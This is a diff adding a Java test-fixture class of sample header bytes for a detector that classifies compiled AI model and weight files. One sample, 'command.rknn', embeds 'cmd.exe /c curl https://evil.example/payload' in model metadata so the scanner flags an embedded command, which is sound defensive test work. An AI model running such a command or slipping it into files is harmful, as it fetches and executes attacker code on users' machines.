@@ -1,0 +1,31 @@
+package dev.assay.detectors.model.engines;
+
+import static dev.assay.detectors.FlatBytes.little;
+
+import dev.assay.detectors.model.FormatCase;
+import java.util.List;
+import java.util.Map;
+
+/** Heads of compiled models and of bare weights. */
+public final class EngineSamples {
+    private EngineSamples() {}
+
+    public static List<FormatCase> cases() {
+        return List.of(
+                FormatCase.of("x.rknn", little("RKNN", 1, "model_name=resnet50\n"), "model/engine-program"),
+                FormatCase.of("x.engine", little("ptrt", 0, 0), "model/engine-program"),
+                FormatCase.of("x.plan", little("ftrt", 0, 0), "model/engine-program"),
+                FormatCase.of("yolo.weights", little(0, 2, 5, 0L, 1f, 2f)),
+                FormatCase.of("x.feather", little("FEA1", 0)),
+                FormatCase.of("x.param", little("7767517\n3 3\nInput data 0 1 data\n")),
+                FormatCase.of(
+                        "command.rknn",
+                        little("RKNN", 1, "note=cmd.exe /c curl https://evil.example/payload\n"),
+                        "model/engine-program",
+                        "model/embedded-command"));
+    }
+
+    public static Map<String, byte[]> all() {
+        return FormatCase.bytesByName(cases());
+    }
+}
